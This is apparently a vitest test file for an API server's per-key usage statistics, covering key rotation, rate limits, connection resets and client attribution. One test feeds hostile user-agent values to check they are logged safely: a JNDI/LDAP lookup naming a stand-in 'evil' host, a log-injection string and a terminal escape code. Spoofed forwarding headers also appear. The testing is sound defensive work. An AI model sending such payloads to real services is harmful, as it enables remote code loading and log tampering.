import { describe, expect, it } from 'vitest';
import { DAY_MS } from '../../src/core/clock.ts';
import { addUsage, NO_USAGE, outcomeOfStatus, type UsageCounts } from '../../src/core/usage.ts';
import { seededRandom } from '../seeded-random.ts';
import { RawConnection, rawRequest } from './raw-http.ts';
import { type Header, JSON_TYPE, keyHeader, ServerForTests, type TestKey } from './server-for-tests.ts';

const http = new ServerForTests();

/** Ways to use a key, each with what a request may come to. */
const REQUESTS: readonly ((key: string) => Promise<{ status: number }>)[] = [
  (key) => http.enhance([keyHeader(key)], { content: 'x' }),
  (key) => http.enhance([keyHeader(key)], { content: '- [ ] x' }, '?stream=false'),
  (key) => http.send({ headers: [['authorization', `Bearer ${key}`]] }),
  (key) => http.enhance([keyHeader(key)], '{'),
  (key) => http.enhance([keyHeader(key)], {}),
  (key) => http.enhance([keyHeader(key)], { content: 'x'.repeat(600_000) }),
  (key) => http.enhance([keyHeader(key), ['content-encoding', 'br']], { content: 'x' }),
  (key) => http.send({ target: '/components?x=1', headers: [keyHeader(key)] }),
];

/** Refused before a key is looked for, or with none that is known: nobody's use. */
const NOBODYS: readonly ((key: string) => Promise<{ status: number }>)[] = [
  () => http.send({ headers: [keyHeader(http.mint())] }),
  (key) => http.send({ headers: [keyHeader(key), keyHeader(key)] }),
  (key) => http.send({ headers: [keyHeader(`${key}x`)] }),
  (key) => http.send({ host: 'evil.example', headers: [keyHeader(key)] }),
  (key) => http.send({ target: '/nowhere', headers: [keyHeader(key)] }),
  (key) => http.send({ method: 'DELETE', headers: [keyHeader(key)] }),
];

async function countsOf({ id }: TestKey): Promise<UsageCounts> {
  const { served, clientErrors, serverErrors, rateLimited, refused } = await http.server.keys.stats(id, DAY_MS);
  return { served, clientErrors, serverErrors, rateLimited, refused };
}

describe('statistics', () => {
  it('are exactly what was answered, over a random mix of keys, requests, limits and ends', async () => {
    const random = seededRandom(42);
    const below = (end: number) => (random(new Uint8Array(1))[0] ?? 0) % end;
    const keys = [
      await http.createKey(),
      await http.createKey({ rateLimitPerMinute: 20 }),
      await http.createKey(),
      await http.createKey({ rateLimitPerMinute: 1 }),
    ];
    const answered = keys.map(() => NO_USAGE);
    for (let round = 0; round < 12; round++) {
      const calls = Array.from({ length: 30 }, async () => {
        const index = below(keys.length);
        const { plaintext } = keys[index] as TestKey;
        const kind = below(REQUESTS.length + NOBODYS.length);
        const { status } = await ([...REQUESTS, ...NOBODYS][kind] as (key: string) => Promise<{ status: number }>)(
          plaintext,
        );
        if (kind >= REQUESTS.length) return;
        answered[index] = addUsage(answered[index] ?? NO_USAGE, { ...NO_USAGE, [outcomeOfStatus(status)]: 1 });
      });
      await Promise.all(calls);
      if (round === 8) await http.server.keys.revoke(keys[2]?.id ?? '', null);
    }
    expect(await Promise.all(keys.map(countsOf))).toEqual(answered);
    const total = answered.reduce(addUsage);
    for (const outcome of ['served', 'clientErrors', 'rateLimited', 'refused'] as const) {
      expect(total[outcome]).toBeGreaterThan(5);
    }
    await http.server.restart();
    expect(await Promise.all(keys.map(countsOf))).toEqual(answered);
    const lines = http.server.lines.filter(({ start, verdict }) => start !== null && verdict === 'accepted');
    expect(lines).toHaveLength(total.served + total.clientErrors);
  });

  it('are kept apart for the old secret of a rotated key', async () => {
    const key = await http.createKey();
    await http.send({ headers: [keyHeader(key.plaintext)] });
    const newer = await http.rotate(key, DAY_MS);
    for (const plaintext of [key.plaintext, key.plaintext, newer]) {
      await http.send({ headers: [keyHeader(plaintext)] });
    }
    const stats = await http.server.keys.stats(key.id, DAY_MS);
    expect(stats.served).toBe(4);
    expect(stats.previousSecret).toMatchObject({ answered: 2, share: 2 / 3 });
  });

  it('say who used the key by the peer alone, whatever headers say, and keep strange agents as they are', async () => {
    const { id, plaintext } = await http.createKey();
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a look-up that some loggers would do
    const agents = ['%0a{"level":"info"}', '${jndi:ldap://evil}', '\x9b2J', 'a'.repeat(5000), '__proto__'];
    for (const agent of agents) {
      http.server.advance(1);
      const headers: Header[] = [
        keyHeader(plaintext),
        ['user-agent', agent],
        ['x-forwarded-for', '1.2.3.4'],
        ['forwarded', 'for=1.2.3.4'],
        ['x-real-ip', '1.2.3.4'],
      ];
      expect((await http.send({ headers })).status).toBe(200);
      const { lastUse } = (await http.server.keys.stats(id, DAY_MS)).currentSecret;
      expect(lastUse).toMatchObject({ ip: '127.0.0.1', agent: agent.slice(0, 200) });
    }
  });

  it('survive connections that are reset at any point of a request', async () => {
    const { id, plaintext } = await http.createKey();
    const body = `{"content":"${'x'.repeat(2000)}"}`;
    const request = rawRequest({
      method: 'POST',
      target: '/render/enhance',
      headers: [keyHeader(plaintext), JSON_TYPE],
      body,
    });
    for (let sent = 40; sent <= request.length; sent += 40) {
      const connection = await RawConnection.open(http.server.url);
      connection.send(request.slice(0, sent));
      if (sent % 80 === 0) await new Promise(setImmediate);
      connection.reset();
    }
    await http.enhance([keyHeader(plaintext)], { content: 'x' });
    expect(await countsOf({ id, plaintext })).toMatchObject({ serverErrors: 0, rateLimited: 0, refused: 0 });
    expect((await countsOf({ id, plaintext })).served).toBeGreaterThanOrEqual(1);
  });
});
